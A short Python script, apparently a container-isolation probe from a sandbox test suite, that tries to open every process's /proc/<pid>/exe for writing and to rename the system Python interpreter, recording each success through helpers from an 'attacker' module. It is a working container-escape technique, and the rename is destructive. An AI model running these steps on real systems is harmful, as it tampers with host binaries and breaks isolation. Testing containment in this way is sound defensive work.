"""Overwrite the program that started the container, through the link to it that every process has."""

import os

from attacker import attempt, gained

for process in [name for name in os.listdir("/proc") if name.isdigit()]:
    for flags in (os.O_WRONLY, os.O_RDWR | os.O_APPEND, os.O_WRONLY | os.O_TRUNC):
        with attempt():
            os.close(os.open(f"/proc/{process}/exe", flags))
            gained(f"the program of process {process}")
with attempt():
    os.rename("/usr/bin/python3", "/usr/bin/python3.old")
    gained("the interpreter")
